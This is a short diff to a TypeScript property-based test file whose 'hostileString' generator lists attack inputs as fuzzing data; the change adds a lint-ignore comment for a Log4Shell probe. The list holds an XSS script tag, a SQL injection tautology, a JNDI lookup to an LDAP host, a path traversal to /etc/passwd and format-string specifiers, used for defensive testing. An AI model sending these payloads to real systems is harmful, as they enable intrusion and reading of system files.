@@ -70,6 +70,7 @@ export const hostileString: fc.Arbitrary<JsonTree> = fc.oneof(
     "%s%n%x",
     "<script>alert(1)</script>",
     "' OR 1=1 --",
+    // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell probe is a literal on purpose
     "${jndi:ldap://x/a}",
     "../../etc/passwd",
     "\u0085\u00ad\u007f",
